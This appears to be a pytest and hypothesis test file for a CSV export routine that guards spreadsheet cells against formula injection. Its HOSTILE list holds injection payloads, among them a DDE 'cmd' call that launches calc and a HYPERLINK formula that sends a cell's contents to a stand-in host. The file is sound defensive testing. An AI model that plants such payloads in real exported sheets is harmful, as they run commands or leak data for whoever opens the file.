"""What leaves as a table is data: no cell is a formula to whatever opens it, and nothing is lost on the way."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from escalations.core.cells import GUARD, cell, starts_formula
from escalations.outbound.sheets import MARK, lines

HOSTILE = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1", "\r=1", "\n=1", "  =1", "\u00a0=1", "'=1", '"=1',
    "''=1", "\uff1d1+1", "\uff0b1", "\uff0d1+1", "\uff20SUM(1)", "\ufe63" + "1+1", "\u200b=1", "\ufeff=1", "\u202e=1",
    " ' \" =1", "\u201c=1", "%0A=1", "|calc", "\0=1", "\x0b=1", "\u2212=1", '=HYPERLINK("http://x.example?"&A1,"see")',
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_what_would_be_a_formula_is_none(text: str) -> None:
    said = cell(text)
    assert said.startswith(GUARD)
    assert said.replace(GUARD, "") == text.replace("\0", "").replace(GUARD, "")


@pytest.mark.parametrize("text", ["ok;=1+1", "ok\t@x", "ok\n=1", 'ok; "=1', "ok\r\n+x", "ok\uff1b\uff1dx"])
def test_what_another_delimiter_would_cut_off_is_no_formula_either(text: str) -> None:
    parts = re.split(r"[;\t\r\n\uff1b]+", cell(text))
    assert parts[0] == "ok"
    assert all(part.startswith(GUARD) for part in parts[1:])


@pytest.mark.parametrize(
    ("value", "said"),
    [
        (-5, "-5"), (-2.5, "-2.5"), (Decimal("-0.10"), "-0.10"), ("-5", "-5"), ("-1,234.50", "-1,234.50"), ("12", "12"),
        ("-5-5", "'-5-5"), ("-", "'-"), ("+49 30 1234", "'+49 30 1234"), ("a-b", "a-b"), ("x@y.example", "x@y.example"),
        (None, ""), (True, "yes"), (False, "no"), ("", ""), ("It's 5 = five", "It's 5 = five"), ("\uff0d5", "'\uff0d5"),
        (dt.datetime(2026, 11, 23, 10, tzinfo=dt.timezone(dt.timedelta(hours=1))), "2026-11-23 09:00:00"),
    ],
)  # fmt: skip
def test_numbers_moments_and_harmless_words_stay(value: Any, said: str) -> None:
    assert cell(value) == said


words = st.text(
    alphabet=st.one_of(st.sampled_from("=+-@\t\r\n;,|'\"\0 %\uff1d\uff0b\uff0d\uff201a\ufeff"), st.characters())
)


@given(
    st.lists(st.lists(words | st.integers() | st.none(), min_size=2, max_size=4), min_size=1, max_size=5), st.booleans()
)
def test_a_file_that_is_read_back_holds_every_cell_and_no_formula(rows: list[list[Any]], mark: bool) -> None:
    data = b"".join(lines(rows, mark=mark))
    assert data.startswith(MARK) is mark or (not mark and str(rows[0][0]).startswith("\ufeff"))
    text = data.removeprefix(MARK if mark else b"").decode()
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert [len(row) for row in read] == [len(row) for row in rows]
    for row, back in zip(rows, read, strict=True):
        for value, said in zip(row, back, strict=True):
            if isinstance(value, str):
                kept = value.replace("\0", "").encode("utf-8", "replace").decode()
                assert said.replace(GUARD, "") == kept.replace(GUARD, "")
            if not re.fullmatch(r"-?[\d,.]+", said, re.ASCII):
                assert said.startswith(GUARD) or not starts_formula(said)
                assert not said[:1] or said[0] not in "=+-@\t\r\n"


@given(words)
def test_disarming_twice_is_no_worse_than_once(text: str) -> None:
    once = cell(text)
    assert not starts_formula(once) or once.startswith(GUARD) or re.fullmatch(r"-?[\d,.]+", once, re.ASCII)
